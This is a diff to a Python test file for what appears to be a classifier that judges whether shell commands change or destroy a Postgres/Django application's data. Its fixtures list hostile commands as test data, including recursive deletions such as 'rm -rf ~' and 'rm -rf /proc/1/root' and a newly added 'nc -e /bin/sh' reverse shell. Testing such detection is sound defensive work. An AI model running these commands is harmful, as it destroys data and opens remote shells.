@@ -1,5 +1,7 @@
 """What programs do, one by one: what changes data, what loses it, and what nobody can tell."""
 
+import re
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -119,7 +121,7 @@ rm -rf ~postgres/data
 rm -rf ~
 rm -rf -- /var/lib/postgresql/data
 rm /proc/1/cwd/PG_VERSION
-rm -rf /proc/1/root/var
+rm -rf /proc/1/root
 rm -rf /{tmp,var}
 /bin/rm -rf /var/lib/postgresql/data
 rmdir /var/lib/postgresql/data
@@ -240,6 +242,8 @@ redis-cli config set dir /tmp
 manage.py flush
 nsenter -t 1 ls
 curl -o /var/lib/postgresql/data/x http://x
+nc -e /bin/sh host 1
+ruff check .
 """
 
 CHANGED_IN_THE_DATABASE = r"""
@@ -352,6 +356,9 @@ make x
 npm ci
 /tmp/evil/ls
 env SOMETHING=1 ls
+curl -X POST http://localhost:8000/flush
+curl -sd x http://localhost:8000
+psql -c 'select f(1) from t tablesample system (1)'
 sh -c 'python manage.py check && python manage.py migrate'
 psql -h postgres -c 'insert into x values (1)'
 """
@@ -372,10 +379,30 @@ def test_programs(line: str, around: Around, due: Effect) -> None:
     assert found.why
 
 
-SEATS = ["psql", "psql -U x ledgerflow_dev", "sh", "bash -l", "bash", "python", "python manage.py shell",
-         "python manage.py dbshell", "python3", "redis-cli", "su postgres", "sudo -i", "su - postgres",
-         "gosu postgres bash", "env psql", "sh -c psql", "manage.py shell_plus", "sh -s x", "python -",
-         "python -i", "zsh", "sh -c 'exec bash'"]  # fmt: skip
+SEATS = [
+    "psql",
+    "psql -U x ledgerflow_dev",
+    "sh",
+    "bash -l",
+    "bash",
+    "python",
+    "python manage.py shell",
+    "python manage.py dbshell",
+    "python3",
+    "redis-cli",
+    "su postgres",
+    "sudo -i",
+    "su - postgres",
+    "gosu postgres bash",
+    "env psql",
+    "sh -c psql",
+    "manage.py shell_plus",
+    "sh -s x",
+    "python -",
+    "python -i",
+    "zsh",
+    "sh -c 'exec bash'",
+]
 
 
 @pytest.mark.parametrize("line", SEATS)
@@ -431,71 +458,12 @@ def test_words_for_people() -> None:
     assert why.startswith("removes /var/lib/postgresql/data")
 
 
-WORDS = st.one_of(
-    st.text(max_size=12),
-    st.sampled_from(
-        [
-            "psql",
-            "-c",
-            "-f",
-            "--command=",
-            "sh",
-            "-lc",
-            "env",
-            "-S",
-            "nice",
-            "-n",
-            "su",
-            "-",
-            "postgres",
-            "tar",
-            "xf",
-            "-C",
-            "find",
-            "-exec",
-            "{}",
-            ";",
-            "xargs",
-            "python",
-            "-m",
-            "manage.py",
-            "dbshell",
-            "--",
-            "postgres",
-            "--x=y",
-            "-D",
-            "pg_dump",
-            "busybox",
-            "sed",
-            "-i",
-            "s/a/b/",
-            "dd",
-            "of=",
-            "$(",
-            "`",
-            "'",
-            '"',
-            "\\",
-            "(",
-            ")",
-            "\\d",
-            "redis-cli",
-            "timeout",
-            "time",
-            "sudo",
-            "exec",
-            "awk",
-            "sort",
-            "pg_ctl",
-            "pg_restore",
-            "chroot",
-            "cp",
-            "mv",
-            "uv",
-            "run",
-        ]
-    ),
-)
+BITS = """
+    psql -c -f --command= sh -lc env -S nice -n su - postgres tar xf -C find -exec {} ; xargs python -m
+    manage.py dbshell -- --x=y -D pg_dump busybox sed -i s/a/b/ dd of= $( ` ' " \\ ( ) \\d redis-cli
+    timeout time sudo exec awk sort pg_ctl pg_restore chroot cp mv uv run
+"""
+WORDS = st.text(max_size=12) | st.sampled_from(re.findall(r"\S+", BITS))
 
 
 @given(st.lists(WORDS, max_size=9), st.sampled_from([DATABASE, APPLICATION, typed(DATABASE)]))
